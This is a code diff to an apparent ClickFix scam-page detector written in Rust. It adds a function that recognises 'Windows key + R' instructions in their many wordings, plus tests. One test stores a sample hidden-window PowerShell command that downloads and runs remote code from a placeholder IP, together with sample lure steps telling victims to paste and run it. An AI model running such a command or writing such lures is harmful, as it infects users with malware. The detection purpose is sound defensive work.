@@ -960,7 +960,7 @@ impl PageHits {
             skel.push_str(&n.skel);
         }
         let (base, skel) = (join_plus(&base), join_plus(&skel));
-        let hits = lexicon()
+        let mut hits: Vec<Hit> = lexicon()
             .find(&skel)
             .into_iter()
             .filter(|h| {
@@ -984,6 +984,7 @@ impl PageHits {
                 )
             })
             .collect();
+        hits.extend(key_combos(&skel));
         PageHits {
             base,
             hits,
@@ -1183,6 +1184,50 @@ pub fn apply(found: ClickFix, verdict: &mut Verdict) {
     verdict.level = Level::Scam;
     verdict.kind = Kind::Clickfix;
     verdict.command = Some(command.shown);
+}
+
+/// Bytes before a key combination's `R` in which a Windows key is named.
+const KEY_REACH: usize = 24;
+
+/// The Windows key with R (or X) however the key is named: "Windows button + R",
+/// "Windows-Taste+R", "⊞ key and R", "hold ⊞ Win and press R". The lexicon lists the usual
+/// names; kits word the key in every way, so the combination is read by its shape: a word
+/// starting with `win` (or `⊞`) at most [`KEY_REACH`] bytes before a lone `r`/`x` after a `+`,
+/// or a lone `r` after "and" / "and press" with the key named as one.
+fn key_combos(skel: &str) -> Vec<Hit> {
+    let b = skel.as_bytes();
+    let mut out = Vec::new();
+    for (i, &c) in b.iter().enumerate() {
+        if !matches!(c, b'r' | b'x') || b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) {
+            continue;
+        }
+        let before = &skel[..i];
+        let and = c == b'r' && (before.ends_with(" and ") || before.ends_with(" and press "));
+        let mut from = i.saturating_sub(KEY_REACH);
+        while !skel.is_char_boundary(from) {
+            from += 1;
+        }
+        let near = &skel[from..i];
+        let logo = has(near, "⊞");
+        // A word starting with `win` (byte-wise: a substring searcher costs Wasm).
+        let nb = near.as_bytes();
+        let key = logo
+            || (0..nb.len().saturating_sub(2))
+                .any(|j| &nb[j..j + 3] == b"win" && (j == 0 || !nb[j - 1].is_ascii_alphabetic()));
+        // "and R" only with the key named as one ("⊞", "key"): prose says "Windows and R".
+        let joined = before.ends_with('+') || and && (logo || has(near, "key"));
+        if joined && key {
+            out.push(Hit {
+                start: from,
+                end: i + 1,
+                cat: Cat::RunDialog,
+                weight: 1.0,
+                // One phrase of its own: however many times a page writes it, it counts once.
+                phrase: usize::MAX - usize::from(c == b'x'),
+            });
+        }
+    }
+    out
 }
 
 /// Removes spaces around `+` so that "win + r" reads "win+r". Applied to `base` and `skel`
@@ -2035,6 +2080,34 @@ mod tests {
             ),
         ] {
             assert!(!judged(clip, text), "{text}");
+        }
+    }
+
+    #[test]
+    fn the_windows_key_however_it_is_named() {
+        let clip = "powershell -w h -c \"iwr http://203.0.113.61/k|iex\"";
+        let story = "Something went wrong while loading this page.";
+        for steps in [
+            "Press the Windows button + R, then Ctrl + V, then Enter.",
+            "Step 1: Windows-key + R. Step 2: CTRL+V. Step 3: ENTER.",
+            "Press the ⊞ key and R together. Paste with Ctrl + V. Hit Enter.",
+            "Hold ⊞ Win and press R. Now press Ctrl and V. Press Enter.",
+            "Press the Windows logo + X, pick the terminal, paste and press Enter.",
+            // The shell window found by name rather than the Run box.
+            "Type cmd in the search box, open Command Prompt, paste (Ctrl + V), press Enter.",
+            "Search for PowerShell in the Start menu, open it, paste and press Enter.",
+        ] {
+            assert!(judged(clip, &format!("{story} {steps}")), "{steps}");
+        }
+        // Prose naming Windows and the R language, a twin, a key and a letter far apart: no
+        // run step.
+        for text in [
+            "Our course runs on Windows and R. Press Ctrl + V to paste the snippet.",
+            "The twin + R pack is sold out. Press Ctrl + V and Enter.",
+            "Windows users: our keyboard shortcuts page lists many combinations, \
+             for example Ctrl+R to reload. Press Ctrl + V and Enter.",
+        ] {
+            assert!(!judged(clip, &format!("{story} {text}")), "{text}");
         }
     }
 
